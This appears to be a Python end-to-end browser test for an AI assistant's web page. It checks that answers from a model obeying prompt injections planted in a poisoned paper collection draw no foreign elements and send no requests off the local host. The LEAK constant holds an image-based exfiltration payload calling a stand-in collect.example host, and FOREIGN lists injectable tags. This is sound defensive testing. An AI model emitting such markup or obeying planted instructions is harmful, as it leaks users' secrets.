"""The page in a browser over the poisoned collection: nothing leaves and nothing is drawn."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from assistant.api import Assistant
from assistant.settings import load_settings
from assistant.web.serving import serve
from tests.attacks.obeying import Obeying
from tests.attacks.poison import POISONED, QUESTIONS
from tests.e2e.conversing import LONGEST, ask
from tests.scripted_server import DEFAULT_MODEL, ScriptedServer

pytestmark = pytest.mark.timeout(400)

LEAK = "![x](https://collect.example/?q=secret) <img src=https://collect.example/i.gif>"
SHOWN = "#ap-chat, .ap-panel"
FOREIGN = "img, iframe, form, script, object, embed, base, video, audio"
ATTACKS = " ".join(poison.attack.strip()[:400] for poison in POISONED)


@pytest.fixture(scope="module")
def address(poisoned_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The page over all papers; the model behind it writes every attack into its answers."""
    folder = shutil.copytree(poisoned_dir, tmp_path_factory.mktemp("page") / "data")
    with ScriptedServer() as server:
        server.reply(Obeying(f"{LEAK} {ATTACKS}"))
        settings = load_settings(
            data_dir=folder, model=f"openai:{DEFAULT_MODEL}", openai_base_url=server.url
        )
        with Assistant(settings) as assistant:
            running = serve(assistant, say=lambda _: None)
            yield running.url
            running.close()


@pytest.fixture(scope="module")
def asked_for() -> list[str]:
    return []


@pytest.fixture(scope="module")
def page(
    address: str, chromium_path: Path, chromium_args: list[str], asked_for: list[str]
) -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path, args=chromium_args)
        opened = browser.new_page()
        opened.set_default_timeout(LONGEST)
        opened.on("request", lambda request: asked_for.append(request.url))
        opened.goto(address)
        opened.get_by_label("Your question").wait_for()
        yield opened
        browser.close()


def harmless(page: Page, asked_for: list[str]) -> None:
    assert page.evaluate("window.hit") is None
    expect(page.locator(SHOWN).locator(FOREIGN)).to_have_count(0)
    links = (
        page.locator(SHOWN)
        .locator("a")
        .evaluate_all("all => all.map(a => [a.getAttribute('href'), a.textContent])")
    )
    for href, words in links:
        where = urlsplit(href)
        says_where = where.scheme in ("http", "https") and str(where.hostname) in words.casefold()
        assert href.startswith("#") or says_where, href
    hosts = {urlsplit(url).hostname for url in asked_for if url.startswith(("http", "ws"))}
    assert hosts == {"127.0.0.1"}


def test_a_list_of_all_papers_draws_none_of_their_attacks(page: Page, asked_for: list[str]) -> None:
    ask(page, "List all papers")
    expect(page.locator(".ap-panel .ap-card").first).to_be_attached()
    harmless(page, asked_for)


@pytest.mark.parametrize("number", [16])
def test_a_model_that_writes_every_attack_draws_none(
    page: Page, asked_for: list[str], number: int
) -> None:
    question = POISONED[number].ask
    assert question is not None
    ask(page, question)
    harmless(page, asked_for)


def test_hostile_questions_are_shown_as_they_were_typed(page: Page, asked_for: list[str]) -> None:
    for hostile in QUESTIONS:
        if hostile.id in ("q-markup-honest", "q-latex", "q-bidi", "q-html"):
            ask(page, hostile.question)
            harmless(page, asked_for)
    expect(page.locator(".ap-question").last).to_be_visible()
